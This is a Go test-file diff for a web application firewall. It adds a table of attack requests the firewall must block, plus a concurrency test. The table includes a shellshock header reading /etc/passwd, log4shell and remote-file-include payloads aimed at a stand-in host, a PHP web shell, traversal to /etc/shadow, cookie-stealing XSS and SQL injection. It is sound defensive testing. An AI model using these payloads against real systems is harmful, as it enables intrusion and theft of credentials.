@@ -101,6 +101,7 @@ type reqCase struct {
 	target      string
 	contentType string
 	body        string
+	header      http.Header // set after the defaults, replacing them
 }
 
 func (c reqCase) request(t testing.TB) *http.Request {
@@ -121,6 +122,9 @@ func (c reqCase) request(t testing.TB) *http.Request {
 	r.Header.Set("Accept", "application/json")
 	if c.contentType != "" {
 		r.Header.Set("Content-Type", c.contentType)
+	}
+	for k, vs := range c.header {
+		r.Header[k] = vs
 	}
 	if c.body != "" {
 		// A server's request keeps the header; httptest sets only the field.
@@ -240,6 +244,49 @@ func TestAttacksBlocked(t *testing.T) {
 			}
 			if score, _ := ev["anomaly_score"].(float64); score < 5 {
 				t.Fatalf("anomaly_score = %v", ev["anomaly_score"])
+			}
+		})
+	}
+}
+
+// shapedAttacks are requests as attackers send them beyond a payload in
+// one field: in headers, behind bytes that are not UTF-8, against files
+// that must not be served, from scanning tools.
+var shapedAttacks = []reqCase{
+	{name: "sqlmap user agent", target: "/api/search?q=tulips", header: http.Header{"User-Agent": {"sqlmap/1.8.2#stable (https://sqlmap.org)"}}},
+	{name: "nikto user agent", target: "/api/search", header: http.Header{"User-Agent": {"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"}}},
+	{name: "shellshock in user agent", target: "/api/search", header: http.Header{"User-Agent": {"() { :; }; /bin/bash -c 'cat /etc/passwd'"}}},
+	{name: "log4shell in a header", target: "/api/search", header: http.Header{"X-Api-Version": {"${jndi:ldap://203.0.113.9/a}"}}},
+	{name: "script tag behind an invalid byte", target: "/api/search?q=%FF%3Cscript%20%FF%3Ealert(document.cookie)%3C/script%3E"},
+	{name: "sqli behind invalid bytes", target: "/api/search?q=%C3%28%FF1%27%20OR%20%271%27=%271"},
+	{name: "traversal behind an invalid byte", target: "/api/files?path=%FF../../../../etc/shadow"},
+	{name: "dotenv file", target: "/.env"},
+	{name: "git config", target: "/.git/config"},
+	{name: "php code in JSON", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "<?php system($_GET['c']); ?>")},
+	{name: "java deserialization gadget", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "java.lang.Runtime.getRuntime().exec(\"id\")")},
+	{name: "remote file include", target: "/api/render?template=http://203.0.113.9/shell.txt?"},
+	{name: "xss in a cookie", target: "/api/search", header: http.Header{"Cookie": {"session=<script>alert(1)</script>"}}},
+}
+
+// TestShapedAttacksBlocked holds the configuration the package ships
+// (paranoia 1, the RE2 @rx operator) to blocking each of shapedAttacks.
+func TestShapedAttacksBlocked(t *testing.T) {
+	w := build(t, "default", waf.Config{})
+	for _, c := range shapedAttacks {
+		t.Run(c.name, func(t *testing.T) {
+			r := c.request(t)
+			rec := httptest.NewRecorder()
+			up := new(upstream)
+			w.Handler(up).ServeHTTP(rec, r)
+			if rec.Code != http.StatusForbidden || up.called {
+				t.Fatalf("status = %d, upstream called = %v", rec.Code, up.called)
+			}
+			evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID)
+			if len(evs) != 1 {
+				t.Fatalf("events = %d, want 1", len(evs))
+			}
+			if ids, _ := evs[0]["rule_ids"].([]any); !contains(ids, float64(949110)) {
+				t.Fatalf("rule_ids = %v", evs[0]["rule_ids"])
 			}
 		})
 	}
@@ -616,5 +663,41 @@ func TestCorazaWritesNothing(t *testing.T) {
 	pw.Close()
 	if out := <-captured; len(out) != 0 {
 		t.Fatalf("Coraza wrote to stdout/stderr: %.200s", out)
+	}
+}
+
+// TestConcurrentVerdicts runs the same requests from many goroutines at
+// once: the shared rule set and its compiled patterns (RE2's caches among
+// them) must give every request the verdict it gets alone.
+func TestConcurrentVerdicts(t *testing.T) {
+	w := build(t, "default", waf.Config{})
+	cases := append(append(attackCases(), benign...), shapedAttacks...)
+	want := make([]int, len(cases))
+	for i, c := range cases {
+		rec := httptest.NewRecorder()
+		w.Handler(new(upstream)).ServeHTTP(rec, c.request(t))
+		want[i] = rec.Code
+	}
+	const workers = 4
+	var wg sync.WaitGroup
+	errs := make(chan string, workers*len(cases))
+	for g := range workers {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for k := range cases {
+				i := (k*7 + g*13) % len(cases)
+				rec := httptest.NewRecorder()
+				w.Handler(new(upstream)).ServeHTTP(rec, cases[i].request(t))
+				if rec.Code != want[i] {
+					errs <- cases[i].name + ": status " + strconv.Itoa(rec.Code) + ", alone " + strconv.Itoa(want[i])
+				}
+			}
+		}()
+	}
+	wg.Wait()
+	close(errs)
+	for e := range errs {
+		t.Error(e)
 	}
 }
